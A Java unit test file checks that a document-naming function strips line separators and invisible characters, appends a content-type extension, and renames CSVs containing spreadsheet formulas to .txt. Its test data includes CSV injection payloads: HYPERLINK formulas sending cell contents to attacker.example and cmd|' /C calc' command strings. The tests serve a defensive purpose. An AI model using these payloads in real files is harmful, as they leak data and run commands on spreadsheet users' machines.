package dev.frontierengage.documents;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class DocumentNamesTest {

  /** A document's name is one line of what shows: it is read in the developer's timeline. */
  @Test
  void aNameKeepsNoLineOrParagraphSeparatorAndIsNeverInvisible() {
    assertThat(Documents.filename("terms\u2028RELEASE APPROVED\u2029.pdf", "application/pdf"))
        .isEqualTo("termsRELEASE APPROVED.pdf");
    assertThat(Documents.filename("C:\\docs\\terms v2.pdf", "application/pdf")).isEqualTo("terms v2.pdf");
    assertThat(Documents.filename("\u3164\u2800", "application/pdf")).as("nothing visible").isEqualTo("document.pdf");
    assertThat(Documents.filename("Caf\u00e9 \u6761\u6b3e.txt", "text/plain")).isEqualTo("Caf\u00e9 \u6761\u6b3e.txt");
  }

  /**
   * A name ends with an extension of the type the content was found to be: a text named
   * {@code run.bat} or a PDF named {@code card.html} was saved under that name by the reviewer's
   * browser, and opening it ran it as what the name said.
   */
  @Test
  void aNameEndsWithAnExtensionOfTheTypeTheContentIs() {
    assertThat(Documents.filename("run.bat", "text/plain")).isEqualTo("run.bat.txt");
    assertThat(Documents.filename("review.hta", "text/plain")).isEqualTo("review.hta.txt");
    assertThat(Documents.filename("card.html", "application/pdf")).isEqualTo("card.html.pdf");
    assertThat(Documents.filename("card.exe", "application/pdf")).isEqualTo("card.exe.pdf");
    assertThat(Documents.filename("logo.svg", "image/png")).isEqualTo("logo.svg.png");
    assertThat(Documents.filename("run.bat.", "text/plain")).as("Windows drops a trailing dot").isEqualTo("run.bat..txt");
    assertThat(Documents.filename("README", "text/plain")).isEqualTo("README.txt");
    assertThat(Documents.filename("Notes.MD", "text/plain")).isEqualTo("Notes.MD");
    assertThat(Documents.filename("data.csv", "text/plain")).isEqualTo("data.csv");
    assertThat(Documents.filename("results.json", "text/plain")).isEqualTo("results.json");
    assertThat(Documents.filename("photo.JPEG", "image/jpeg")).isEqualTo("photo.JPEG");
    assertThat(Documents.filename("photo.jpg", "image/jpeg")).isEqualTo("photo.jpg");
    assertThat(Documents.filename("card.pdf", "application/pdf")).isEqualTo("card.pdf");
    String longest = Documents.filename("\uD83D\uDE80" + "x".repeat(190) + ".bat", "text/plain");
    assertThat(longest).hasSizeLessThanOrEqualTo(200).endsWith(".bat.txt").startsWith("\uD83D\uDE80");
    String split = Documents.filename("x".repeat(195) + "\uD83D\uDE80" + "y.bat", "text/plain");
    assertThat(split).hasSizeLessThanOrEqualTo(200).endsWith(".txt");
    assertThat(split.codePoints().noneMatch(c -> Character.getType(c) == Character.SURROGATE)).as("no half character").isTrue();
  }

  /**
   * A CSV whose cells a spreadsheet would run as formulas is named as text: opened from the
   * reviewer's downloads, {@code =HYPERLINK(...)} or {@code -2+3+cmd|...} ran in the spreadsheet.
   * Numbers, negative ones too, and text keep the CSV its name.
   */
  @Test
  void aCsvHoldingAFormulaIsNamedAsText() {
    assertThat(named("results.csv", "model,score\nWile,=HYPERLINK(\"https://attacker.example/?\"&A1,\"details\")"))
        .isEqualTo("results.csv.txt");
    assertThat(named("r.CSV", "a;b\r\n1;@SUM(1+1)*cmd|' /C calc'!A0")).as("semicolons, @, upper case").isEqualTo("r.CSV.txt");
    assertThat(named("r.csv", "a,b\n1,\"=1+1\"")).as("quoted").isEqualTo("r.csv.txt");
    assertThat(named("r.csv", "a\tb\n1\t \t=1+1")).as("tab-separated, blanks before").isEqualTo("r.csv.txt");
    assertThat(named("r.csv", "a,b\n1,-2+3+cmd|' /C calc'!A0")).as("a sum after a sign").isEqualTo("r.csv.txt");
    assertThat(named("r.csv", "a,b\n1,+1+1")).isEqualTo("r.csv.txt");
    assertThat(named("scores.csv", "model,score,delta\nWile,-5,+3.5\nRoad,1e3,-1.5e-2\nX,-12%,\"-7\"\n-,n/a,"))
        .as("numbers and text").isEqualTo("scores.csv");
    assertThat(named("bom.csv", "\ufeff=HYPERLINK(\"https://attacker.example/?\"&A2,\"Click\"),b\nsecret,2"))
        .as("after a byte order mark, which spreadsheets drop").isEqualTo("bom.csv.txt");
    assertThat(named("sep.csv", "sep=|\nname|=HYPERLINK(\"https://attacker.example\")"))
        .as("Excel's own separator line").isEqualTo("sep.csv.txt");
    assertThat(named("wide.csv", "a,\uff0b1\uff0bcmd")).as("full-width sign").isEqualTo("wide.csv.txt");
    assertThat(named("floats.csv", "x,y\n-inf,+INF\n-NaN,-.5\n-1 234,+1.5e-3\n")).as("what data tools write")
        .isEqualTo("floats.csv");
    assertThat(named("notes.txt", "=1+1")).as("not named as CSV").isEqualTo("notes.txt");
    assertThat(Documents.named("card.csv", "application/pdf", "=1+1".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
        .as("not text").isEqualTo("card.csv");
    assertThat(named("x".repeat(196) + ".csv", "=1")).hasSizeLessThanOrEqualTo(200).endsWith(".txt");
  }

  private static String named(String name, String content) {
    return Documents.named(name, "text/plain", content.getBytes(java.nio.charset.StandardCharsets.UTF_8));
  }
}
